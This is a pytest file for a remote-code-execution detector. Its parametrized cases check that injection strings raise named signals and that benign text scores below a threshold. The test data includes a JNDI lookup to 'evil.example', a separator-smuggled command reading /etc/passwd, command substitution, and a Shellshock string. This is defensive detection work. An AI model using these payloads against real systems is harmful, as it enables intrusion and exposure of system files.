import pytest

from processing_py.detect import score
from processing_py.detect.types.rce import TYPE, confirm
from tests.processing_py.detect.types.values import value


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("; cat /etc/passwd", "separated"),
        ("$(id)", "substitution"),
        ("${jndi:ldap://evil.example/a}", "jndi"),
        ("() { :;}; id", "shellshock"),
        ('o:4:"user":1:{}', "serialized"),
        ("for /f %i in (a) do b", "batch"),
        ("if not exist a.txt del b", "batch"),
    ],
)
def test_signals(text, name):
    assert name in {signal.name for signal in confirm(value(text))}


@pytest.mark.parametrize("text", ["cat & dog", "mammal;cat;ears", "if it exists for you", "R&D; marketing | sales"])
def test_ordinary_values_stay_under_the_threshold(text):
    assert score.score(TYPE, confirm(value(text))) < score.THRESHOLD
